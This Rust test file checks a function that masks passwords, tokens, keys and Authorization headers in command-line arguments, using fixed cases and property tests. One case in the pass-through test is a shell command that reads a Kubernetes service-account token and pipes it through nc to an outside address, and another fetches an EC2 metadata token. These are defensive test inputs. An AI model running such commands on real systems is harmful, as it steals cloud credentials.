use proptest::prelude::*;

use super::*;

fn of(args: &[&str]) -> Vec<String> {
    let args = args.iter().map(|&arg| arg.to_owned()).collect();
    ArgsMode::Redacted.apply(args)
}

#[test]
fn secrets_are_masked() {
    #[rustfmt::skip]
    let cases: &[(&[&str], &[&str])] = &[
        (&["", "--password", "x"], &["", "--password", "***"]),
        (&[" ", "-u", "a:b"], &[" ", "-u", "a:***"]),
        (&["app", "--password=x y"], &["app", "--password=***"]),
        (&["app", "--db-password", "x", "y"], &["app", "--db-password", "***", "y"]),
        (&["app", "--token", "-x1y", "y"], &["app", "--token", "***", "y"]),
        (&["app", "--use-token", "--password", "x"], &["app", "--use-token", "--password", "***"]),
        (&["env", "AWS_SECRET_ACCESS_KEY=x"], &["env", "AWS_SECRET_ACCESS_KEY=***"]),
        (&["aws", "configure", "set", "aws_session_token", "x"], &["aws", "configure", "set", "aws_session_token", "***"]),
        (&["curl", "-H", "Authorization: Bearer x"], &["curl", "-H", "Authorization: ***"]),
        (&["curl", "--header=Authorization:hunter2secret"], &["curl", "--header=Authorization:***"]),
        (&["curl", "-HX-aws-ec2-metadata-token:SECRETTOKEN"], &["curl", "-HX-aws-ec2-metadata-token:***"]),
        (&["echo", "Authorization:", "Bearer", "x", "y"], &["echo", "Authorization:", "***", "***", "y"]),
        (&["echo", "Authorization:Basic", "x", "y"], &["echo", "Authorization:***", "***", "y"]),
        (&["x", "basic", "x", "y"], &["x", "basic", "***", "y"]),
        (&["x", "--jwt=eyJhbGci"], &["x", "--jwt=***"]),
        (&["x", "--id=eyJhbGciOi.eyJzdWIi.c2ln"], &["x", "--id=***"]),
        (&["x", "a:ASIAIOSFODNN7EXAMPLE:x"], &["x", "a:***"]),
        (&["x", "k8s-aws-v1.aHR0cHM6"], &["x", "***"]),
        (&["curl", "-u", "user:pa55", "http://x/"], &["curl", "-u", "user:***", "http://x/"]),
        (&["curl", "-uuser:pa55", "--user=a:b"], &["curl", "-uuser:***", "--user=a:***"]),
        (&["app", "-pS3cret"], &["app", "-p***"]),
        (&["mysql", "-uroot", "-phunter", "db"], &["mysql", "-uroot", "-p***", "db"]),
        (&["docker", "login", "-u", "me", "-p", "x"], &["docker", "login", "-u", "me", "-p", "***"]),
        (&["psql", "postgres://me:pw@db/x"], &["psql", "postgres://me:***@db/x"]),
        (&["psql", "postgres://me:p/w@1@db/x"], &["psql", "postgres://me:***@db/x"]),
        (&["psql", "--url=postgres://me:cut"], &["psql", "--url=postgres://me:***"]),
        (&["git", "clone", "https://0123456789abcdef@host/x"], &["git", "clone", "https://***@host/x"]),
        (&["curl", "http://x/cb?a=b&access_token=x"], &["curl", "http://x/cb?a=b&access_token=***"]),
        (&["x", r#"{"user": "a", "password" : "b c"}"#], &["x", r#"{"user": "a", "password" : ***"#]),
        (&["x", r#"["--password","a b","c"]"#], &["x", r#"["--password","***","c"]"#]),
        (&["psql", "-c", "alter user x password 'y'"], &["psql", "-c", "alter user x password ***"]),
        (&["sh", "-c", "use AKIAIOSFODNN7EXAMPLE now"], &["sh", "-c", "use *** now"]),
        (&["sh", "-c", "x --password hunter2 -h db"], &["sh", "-c", "x --password *** -h db"]),
        (&["sh", "-c", "A=1 PASSWORD=x psql -h db"], &["sh", "-c", "A=1 PASSWORD=*** psql -h db"]),
        (&["sh", "-c", "PASSWORD=$(echo a b) psql"], &["sh", "-c", "PASSWORD=*** psql"]),
        (&["sh", "-c", "PASSWORD='a b' psql"], &["sh", "-c", "PASSWORD=***' psql"]),
        (&["sh", "-c", "curl http://x/ -H 'Authorization: Bearer abc' -s"], &["sh", "-c", "curl http://x/ -H 'Authorization: ***' -s"]),
        (&["sh", "-c", "echo it's; app --password hunter2 -v"], &["sh", "-c", "echo it's; app --password *** -v"]),
        (&["bash", "-lc", "ssh h \"app --password 'a b' -v\""], &["bash", "-lc", "ssh h \"app --password '***' -v\""]),
    ];
    for (args, expected) in cases {
        assert_eq!(of(args), *expected);
    }
}

#[test]
fn what_is_no_secret_stays() {
    let path = "/var/run/secrets/eks.amazonaws.com/serviceaccount/token";
    let fetch = format!("TOKEN=$(cat {path}); curl -H \"Authorization: $TOKE");
    #[rustfmt::skip]
    let cases: &[&[&str]] = &[
        &["cat", path],
        &["app", "--token-file=/x/token", "--verbose"],
        &["app", "--token-file", "/x/token"],
        &["aws", "sts", "x", "--web-identity-token", "file:///var/run/secrets/a/token"],
        &["env", "AWS_CONTAINER_CREDENTIALS_FULL_URI=http://169.254.170.23/v1/credentials", "x"],
        &["curl", "http://169.254.170.23:80/v1/credentials"],
        &["curl", "http://[fd00:ec2::23]:80/v1/credentials", "http://secrets:8080/a@b"],
        &["kubectl", "get", "secret", "name", "-n", "token-system"],
        &["kubectl", "get", "secret/name", "--as=system:serviceaccount:a:b"],
        &["aws", "x", "arn:aws:secretsmanager:eu-west-1:1:secret:name"],
        &["docker", "run", "-v", "/run/token:/x:ro", "nginx:1@sha256:ab"],
        &["find", "/", "-print", "-path", "x", "-print0"],
        &["ssh", "-p2222", "git@host:x", "-u", "root"],
        &["sh", "-c", "cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token | nc 10.0.0.1 80"],
        &["sh", "-c", "T=$(curl -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')"],
    ];
    for args in cases {
        assert_eq!(of(args), *args);
    }
    let masked = of(&["sh", "-c", &fetch]);
    assert!(
        masked[2].starts_with(&format!("TOKEN=$(cat {path});")),
        "{masked:?}"
    );
}

/// `@@` is where the secret goes; it may hold anything.
const ARGUMENTS: &[&[&str]] = &[
    &["app", "--password", "@@"],
    &["app", "--api-key=@@", "x"],
    &["app", "-Ddb.password=@@"],
    &["app", "--set", "a=b,dbPassword=@@"],
    &["env", "A=1", "PASSWORD=@@", "x"],
    &["curl", "-H", "Authorization: Bearer @@", "http://x/"],
    &["curl", "--header=Authorization:@@"],
    &["curl", "-HX-aws-ec2-metadata-token:@@"],
    &["curl", "-u", "user:@@"],
    &["curl", "-d", "{\"user\": \"a\", \"password\" : \"@@\"}"],
    &["curl", "-d", "user=a&password=@@"],
    &["x", "Authorization:", "Bearer", "@@"],
    &["mysql", "-p@@"],
    &["app", "-p@@"],
    &["curl", "-uuser:@@"],
    &["curl", "--proxy-user=user:@@"],
    &["sshpass", "-p", "@@", "ssh"],
    &["aws", "configure", "set", "aws_secret_access_key", "@@"],
    &["x", "-----BEGIN PRIVATE KEY-----\n@@"],
];
/// The same within a word of a text.
const WORDS: &[&str] = &[
    "x --password @@ -h db",
    "x --password '@@' -h db",
    "x --password=@@ -h db",
    "x; it's --password \"@@\"",
    "A=1 PASSWORD=@@",
    "A=1 PASSWORD=\"a b @@ c\" x",
    "curl http://x/ -H 'Authorization: Bearer @@'",
    "curl http://x/ -H \"Authorization: Basic @@\" -s",
    "curl -H Authorization:Bearer @@",
    "curl -u user:@@ http://x/",
    "curl https://user:@@@host/x",
    "curl 'https://h/x?access_token=@@'",
    "mysql -uroot -p@@ db",
    "echo eyJ@@ | x",
    "x --id=eyJ@@",
    "x --id:AKIAIOSFODNN7EXAMPLE/@@",
    "X=$(mysql --password @@) y",
    "x [\"--token\", \"@@\"]",
    "x [--token,@@]",
    "x \"y --password @@ TOKEN=z\"",
    "x \"y 'z' --password @@ \\\"TOKEN=z\"",
    "x 'y \"--password\" @@ z'",
    "app -p'@@ @@'",
    "curl -u'user:@@ @@' x",
    "x \\\n--password \\\n @@ \\\n-v",
    "x a%26password%3D@@",
    "x \"y \\\"--password \\\\\\\"@@ @@\\\\\\\"\\\"\"",
    "x \"{\\\"token\\\":\\\"@@\\\"}\"",
];
const CANARY: &str = "QzX7";

proptest! {
    #[test]
    fn a_secret_argument_never_comes_out(
        template in prop::sample::select(ARGUMENTS), middle in "\\PC{0,12}", cut in 0..64_usize,
    ) {
        let secret = format!("{CANARY}{middle}{CANARY}");
        let mut args: Vec<String> = template.iter().map(|arg| arg.replace("@@", &secret)).collect();
        if let Some(last) = args.last_mut() {
            *last = last.chars().take(cut).collect();
        }
        let masked = ArgsMode::Redacted.apply(args.clone());
        prop_assert_eq!(masked.len(), args.len());
        prop_assert!(!masked.concat().contains(CANARY), "{:?} -> {:?}", args, masked);
    }

    #[test]
    fn a_secret_word_never_comes_out(
        // No `@`: past the cut, `user:a@b` can be a whole URL.
        template in prop::sample::select(WORDS), middle in "[A-Za-z0-9_.+/!%^~=:,\u{2003}-]{0,12}",
        cut in 0..96_usize, shell in any::<bool>(),
    ) {
        let text = template.replace("@@", &format!("{CANARY}{middle}{CANARY}"));
        let text: String = text.chars().take(cut).collect();
        let args = [if shell { "sh" } else { "ssh" }, if shell { "-c" } else { "host" }, &text];
        let masked = of(&args);
        prop_assert_eq!(masked.len(), 3);
        prop_assert!(!masked.concat().contains(CANARY), "{:?} -> {:?}", args, masked);
    }

    #[test]
    fn any_text_is_taken(
        args in prop::collection::vec("([-=:'\"()$@\\\\ \u{e9}\u{2003}]|\\PC|pass|eyJ|://|-u|-p|AKIA){0,40}", 0..6),
    ) {
        prop_assert_eq!(ArgsMode::Redacted.apply(args.clone()).len(), args.len());
    }
}
